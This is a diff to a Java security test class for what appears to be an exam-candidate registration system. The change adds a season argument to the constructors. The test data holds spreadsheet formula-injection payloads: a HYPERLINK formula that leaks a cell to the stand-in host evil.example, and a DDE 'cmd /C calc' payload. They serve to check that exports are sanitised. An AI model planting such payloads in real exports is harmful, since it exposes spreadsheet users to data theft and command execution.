@@ -134,10 +134,10 @@ class WebSecurityAttackTests {
     void theVerdictExportCarriesNoFormula() throws Exception {
         String formula = "=HYPERLINK(\"http://evil.example/?\"&C2,\"click\")";
         tx.executeWithoutResult(s -> {
-            Candidate c = candidates.save(new Candidate(TestData.uniqueRegistrationNo("1201"), formula,
+            Candidate c = candidates.save(new Candidate(TestData.SEASON, TestData.uniqueRegistrationNo("1201"), formula,
                     TestData.validIdNumber(), null, ExamCategories.CLINICAL, "12", "1201", data.clock().instant()));
             c.recordVerdict(Verdict.REJECTED, "@SUM(1+1)*cmd|' /C calc'!A0", data.clock().instant());
-            Candidate tab = candidates.save(new Candidate(TestData.uniqueRegistrationNo("1201"), "\t-2+3",
+            Candidate tab = candidates.save(new Candidate(TestData.SEASON, TestData.uniqueRegistrationNo("1201"), "\t-2+3",
                     TestData.validIdNumber(), null, ExamCategories.CLINICAL, "12", "1201", data.clock().instant()));
             tab.recordVerdict(Verdict.APPROVED, "+1 通过", data.clock().instant());
         });
@@ -338,7 +338,7 @@ class WebSecurityAttackTests {
     // helpers //////////////////////////////////////////////////////////////////////////////////////////////
 
     private Candidate unactivated() {
-        return tx.execute(s -> candidates.save(new Candidate(TestData.uniqueRegistrationNo("1201"), "未激活", TestData.validIdNumber(),
+        return tx.execute(s -> candidates.save(new Candidate(TestData.SEASON, TestData.uniqueRegistrationNo("1201"), "未激活", TestData.validIdNumber(),
                 null, ExamCategories.CLINICAL, "12", "1201", data.clock().instant())));
     }
 
